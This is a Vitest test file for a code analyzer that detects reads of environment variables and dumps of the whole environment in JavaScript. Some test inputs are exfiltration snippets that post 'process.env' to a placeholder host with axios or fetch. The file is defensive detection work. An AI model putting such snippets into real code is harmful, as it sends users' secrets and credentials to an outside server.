import { describe, expect, test } from 'vitest';
import { saidByJavascript } from '../../../testing/javascript-facts.ts';

describe('a variable that is read is told by its name', () => {
  test.each([
    [`send(process.env.HARBOR_TOKEN)`, ['process.env | HARBOR_TOKEN']],
    [`send(process.env['HARBOR_TOKEN'])`, ['process.env | HARBOR_TOKEN']],
    [`send(process['env'].HARBOR_TOKEN)`, ['process.env | HARBOR_TOKEN']],
    [`send(globalThis.process.env.HARBOR_TOKEN)`, ['process.env | HARBOR_TOKEN']],
    [`import { env } from 'node:process'; send(env.HARBOR_TOKEN)`, ['process.env | HARBOR_TOKEN']],
    [`const env = process.env; send(env.HARBOR_TOKEN)`, ['process.env | HARBOR_TOKEN']],
    [`const { HARBOR_TOKEN: t, TIDE = '1' } = process.env`, ['process.env | HARBOR_TOKEN', 'process.env | TIDE']],
    [`send(process.env['HARBOR' + '_TOKEN'])`, ['process.env | HARBOR_TOKEN']],
    [`for (const name of ['A_KEY', 'B_KEY']) send(process.env[name])`, ['process.env | A_KEY', 'process.env | B_KEY']],
    [`['A_KEY'].forEach((name) => send(process.env[name]))`, ['process.env | A_KEY']],
    [`send(Bun.env.HARBOR_TOKEN)`, ['Bun.env | HARBOR_TOKEN']],
    [`send(Deno.env.get('HARBOR_TOKEN'))`, ['Deno.env | HARBOR_TOKEN']],
  ])('%s', (code, said) => {
    expect(saidByJavascript(code, 'environment')).toEqual(said);
  });

  test.each([
    ['setting one', `process.env.HARBOR_TOKEN = '1'`],
    ['removing one', `delete process.env.HARBOR_TOKEN`],
    ['an object of the same name', `const env = { HARBOR_TOKEN: '1' }; send(env.HARBOR_TOKEN)`],
    ['a member called env of something else', `send(config.env.HARBOR_TOKEN)`],
  ])('%s reads none', (_, code) => {
    expect(saidByJavascript(code, 'environment')).toEqual([]);
  });
});

describe('taking the whole environment is told', () => {
  test.each([
    [`JSON.stringify(process.env)`, 'JSON.stringify | '],
    [`const copy = { ...process.env }; JSON.stringify(copy)`, 'spread of process.env | '],
    [`send(JSON.stringify({ host, all: process.env }))`, 'JSON.stringify | '],
    [
      `import axios from 'axios'; const report = { host, env: process.env }; axios.post('https://quay.invalid', report)`,
      'axios.post | ',
    ],
    [`const report = { env: { ...process.env } }; send(JSON.stringify(report))`, 'JSON.stringify | '],
    [`Object.entries(process.env).map(send)`, 'Object.entries | '],
    [`for (const name in process.env) send(name)`, 'for in process.env | '],
    [`const { PATH, ...others } = process.env; send(others)`, 'rest of process.env | '],
    [`const all = Object.assign({}, process.env)`, 'Object.assign | '],
    [`import axios from 'axios'; axios.post('https://quay.invalid', process.env)`, 'axios.post | '],
    [
      `const env = { ...process.env }; fetch('https://quay.invalid', { body: JSON.stringify(env) })`,
      'JSON.stringify | ',
    ],
  ])('%s', (code, said) => {
    expect(saidByJavascript(code, 'environment-dump')).toContain(said);
  });

  test.each([
    [
      'to a started process',
      `import { spawn } from 'child_process'; spawn('tide', [], { env: { ...process.env, TIDE: '1' } })`,
    ],
    ['to it as it is', `import { spawn } from 'child_process'; spawn('tide', [], { env: process.env })`],
    ['merged for it', `spawn('tide', { env: Object.assign({}, process.env, { TIDE: '1' }) })`],
    ['through a variable', `const childEnv = { ...process.env }; spawn('tide', { env: childEnv })`],
    ['through a variable of another name', `const merged = { ...process.env }; spawn('tide', { env: merged })`],
    ['in options by a name', `const options = { env: process.env, cwd }; spawn('tide', [], options)`],
    ['through a function', `function buildEnv() { return { ...process.env, TIDE: '1' } }`],
    ['by key afterwards', `options.env = { ...process.env }`],
    ['filling it', `Object.assign(process.env, parsed)`],
  ])('handing it %s is not', (_, code) => {
    expect(saidByJavascript(code, 'environment-dump')).toEqual([]);
  });
});
